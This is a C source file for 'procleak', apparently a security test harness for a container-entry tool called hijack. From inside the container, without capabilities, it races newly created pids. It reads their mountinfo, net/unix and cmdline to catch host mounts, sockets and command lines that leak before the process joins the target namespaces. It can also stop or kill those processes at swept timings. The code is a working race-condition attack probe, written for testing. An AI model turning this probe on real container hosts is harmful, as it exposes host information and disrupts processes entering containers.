// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * procleak - the container's side of an attack on hijack's entries: a
 * process of the target's pid namespace, with no capability, that watches
 * the pids the kernel hands out next and reads from each new process the
 * /proc files that any process of the namespace may open, whatever the
 * owner or dumpability: mountinfo, net/unix and cmdline.  A process that
 * hijack forks into the namespace before it has joined the target's mount
 * and network namespaces shows the caller's mounts and sockets there;
 * one that has not exec'd shows hijack's command line.
 *
 *   procleak MARK
 *   procleak --stop
 *   procleak --kill
 *   procleak --bind MARK
 *
 * Drops to uid and gid 65534, and so every capability (in a user
 * namespace that does not map 65534, or denies setgroups: stays root of
 * it, without any capability), prints "ready", then
 * races until SIGTERM or SIGINT and prints one line:
 *   "seen N mnt M net K cmdline C"
 * N: new processes whose files it opened; M: of those, the processes whose
 * mountinfo held MARK (a mount source only the caller's namespace has);
 * K: whose net/unix named the abstract socket @MARK (bound in the
 * caller's network namespace by procleak --bind); C: whose cmdline held
 * MARK.  Exits 1 after 600 s.
 *
 * With --stop it keeps its privilege (the container's root) and sends
 * SIGSTOP to every new process the instant it exists, once each, and
 * SIGCONT to one that turns out not to be hijack's (one that has exec'd
 * by then); at SIGTERM or SIGINT it prints "stopped N".  With --kill it
 * sends SIGKILL instead, to each new process at a moment that moves from
 * its birth to 2 ms after it by 20 us each time, and prints "killed N".
 *
 * With --bind, run outside the target, it binds the abstract unix socket
 * @MARK in its network namespace, prints "ready" and holds it until
 * SIGTERM or SIGINT: a mark of that namespace that needs no interface of
 * its own (a host may have none but lo, and no dummy driver).
 */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <signal.h>
#include <stdio.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

/* Read a whole (small) /proc file; -1 if it cannot be opened. */
static ssize_t slurp(const char *path, char *buf, size_t size)
{
	ssize_t n, len = 0;
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return -1;
	while ((size_t)len < size - 1 &&
	       (n = read(fd, buf + len, size - 1 - (size_t)len)) > 0)
		len += n;
	close(fd);
	buf[len] = '\0';
	return len;
}

/* memmem over a buffer with NULs in it, as cmdline is. */
static int holds(const char *buf, ssize_t len, const char *mark)
{
	return len > 0 && memmem(buf, (size_t)len, mark, strlen(mark)) != NULL;
}

/* --bind: hold the abstract socket @MARK until told to stop. */
static int binder(const char *mark)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	size_t len = strlen(mark);
	int fd;

	if (len + 1 > sizeof(a.sun_path))
		return 2;
	memcpy(a.sun_path + 1, mark, len);	/* sun_path[0] = 0: abstract */
	fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&a,
			   (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len)) < 0 ||
	    listen(fd, 1) < 0) {
		perror("procleak: bind");
		return 1;
	}
	printf("ready\n");
	fflush(stdout);
	while (!stop)
		pause();
	return 0;
}

static int drop(void)
{
	struct __user_cap_header_struct h = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct none[2] = { { 0 } };

	if (setgroups(0, NULL) == 0 && setresgid(65534, 65534, 65534) == 0 &&
	    setresuid(65534, 65534, 65534) == 0)
		return 0;
	/* Unmapped (EINVAL), or setgroups denied (EPERM): capabilities only. */
	if (errno != EINVAL && errno != EPERM)
		return -1;
	return (int)syscall(SYS_capset, &h, none);
}

/* Until @pid shows as stopped (or is gone), a second at most. */
static void stopped_state(long pid)
{
	char buf[512], path[64];
	const char *p;
	int i;

	(void)snprintf(path, sizeof(path), "/proc/%ld/stat", pid);
	for (i = 0; i < 1000; i++) {
		if (slurp(path, buf, sizeof(buf)) <= 0)
			return;
		p = strrchr(buf, ')');
		if (!p || p[1] == '\0' || p[2] == 'T' || p[2] == 't')
			return;
		(void)usleep(1000);
	}
}

/*
 * Call @fn on each new process of the pid namespace, once, the instant it
 * exists: the next pid is tried until @fn finds it there (0 or 1, which
 * is counted; -1 while there is none).  Until told to stop, or 600 s;
 * then prints "@what N".
 */
static int each_new(int (*fn)(long pid), const char *what)
{
	char buf[64];
	long last, pid, prev = 0;
	unsigned long count = 0;
	time_t end = time(NULL) + 600;
	int r;

	printf("ready\n");
	fflush(stdout);
	while (!stop && time(NULL) < end) {
		/* The signal to stop may cut this read short (EINTR). */
		if (slurp("/proc/sys/kernel/ns_last_pid", buf, sizeof(buf)) <= 0) {
			if (stop)
				break;
			return 1;
		}
		last = strtol(buf, NULL, 10);
		for (pid = last; pid <= last + 1; pid++) {
			if (pid <= prev || pid == getpid())
				continue;
			r = fn(pid);
			if (r < 0)
				continue;
			prev = pid;
			count += (unsigned long)r;
		}
	}
	printf("%s %lu\n", what, count);
	return stop ? 0 : 1;
}

/*
 * --stop: stopped first, so that it may not yet have said a word to
 * hijack, not even its pid.  It may have exec'd before the stop: a
 * command stopped by its container is the command's own business, not
 * this attack; let it go on.  Its name is final once the stop took hold.
 */
static int stop_one(long pid)
{
	char buf[64], path[64];

	if (kill((pid_t)pid, SIGSTOP) < 0)
		return -1;
	stopped_state(pid);
	(void)snprintf(path, sizeof(path), "/proc/%ld/comm", pid);
	if (slurp(path, buf, sizeof(buf)) > 0 && strncmp(buf, "hijack", 6) != 0) {
		(void)kill((pid_t)pid, SIGCONT);
		return 0;
	}
	return 1;	/* or gone: hijack ended it */
}

/* Spin for @us microseconds: a sleep would take far longer. */
static void spin(long us)
{
	struct timespec t0, t;

	(void)clock_gettime(CLOCK_MONOTONIC, &t0);
	do
		(void)clock_gettime(CLOCK_MONOTONIC, &t);
	while ((t.tv_sec - t0.tv_sec) * 1000000L +
	       (t.tv_nsec - t0.tv_nsec) / 1000L < us);
}

/*
 * --kill: SIGKILL at a moment that moves on by 20 us each time, from the
 * birth to 2 ms after it: between the birth and the exec at every step
 * of the way, or after.
 */
static int kill_one(long pid)
{
	static long delay;
	int r;

	if (kill((pid_t)pid, 0) < 0)
		return -1;
	spin(delay);
	r = kill((pid_t)pid, SIGKILL) == 0;
	delay = (delay + 20) % 2000;
	return r;
}

int main(int argc, char **argv)
{
	static char buf[1 << 20];
	unsigned long seen = 0, mnt = 0, net = 0, cmd = 0;
	long last, pid, prev = -1, mnt_pid = -1, net_pid = -1, cmd_pid = -1;
	struct sigaction sa = { .sa_handler = on_signal };
	char path[64];
	time_t end = time(NULL) + 600;
	ssize_t n;

	if (argc != 2 && !(argc == 3 && strcmp(argv[1], "--bind") == 0)) {
		fprintf(stderr, "usage: procleak MARK | --stop | --kill | --bind MARK\n");
		return 2;
	}
	(void)sigaction(SIGTERM, &sa, NULL);
	(void)sigaction(SIGINT, &sa, NULL);
	if (strcmp(argv[1], "--stop") == 0)
		return each_new(stop_one, "stopped");
	if (strcmp(argv[1], "--kill") == 0)
		return each_new(kill_one, "killed");
	if (argc == 3 && strcmp(argv[1], "--bind") == 0)
		return binder(argv[2]);
	if (drop() < 0) {
		perror("procleak: drop to 65534");
		return 1;
	}
	printf("ready\n");
	fflush(stdout);

	while (!stop && time(NULL) < end) {
		n = slurp("/proc/sys/kernel/ns_last_pid", buf, sizeof(buf));
		if (n <= 0) {
			if (stop)
				break;	/* cut short by the signal to stop */
			perror("procleak: ns_last_pid");
			break;	/* the counts so far, and exit 1 */
		}
		last = strtol(buf, NULL, 10);
		/* Each new pid once, and the next few while it is young. */
		for (pid = last; pid <= last + 3; pid++) {
			if (pid == getpid())
				continue;
			(void)snprintf(path, sizeof(path), "/proc/%ld/mountinfo", pid);
			n = slurp(path, buf, sizeof(buf));
			if (n < 0)
				continue;
			if (pid > prev) {
				seen++;
				prev = pid;
			}
			/* Each process counted once per kind of leak. */
			if (pid != mnt_pid && holds(buf, n, argv[1])) {
				mnt++;
				mnt_pid = pid;
			}
			(void)snprintf(path, sizeof(path), "/proc/%ld/net/unix", pid);
			n = slurp(path, buf, sizeof(buf));
			if (pid != net_pid && holds(buf, n, argv[1])) {
				net++;
				net_pid = pid;
			}
			(void)snprintf(path, sizeof(path), "/proc/%ld/cmdline", pid);
			n = slurp(path, buf, sizeof(buf));
			if (pid != cmd_pid && holds(buf, n, argv[1])) {
				cmd++;
				cmd_pid = pid;
			}
		}
	}
	printf("seen %lu mnt %lu net %lu cmdline %lu\n", seen, mnt, net, cmd);
	return stop ? 0 : 1;
}
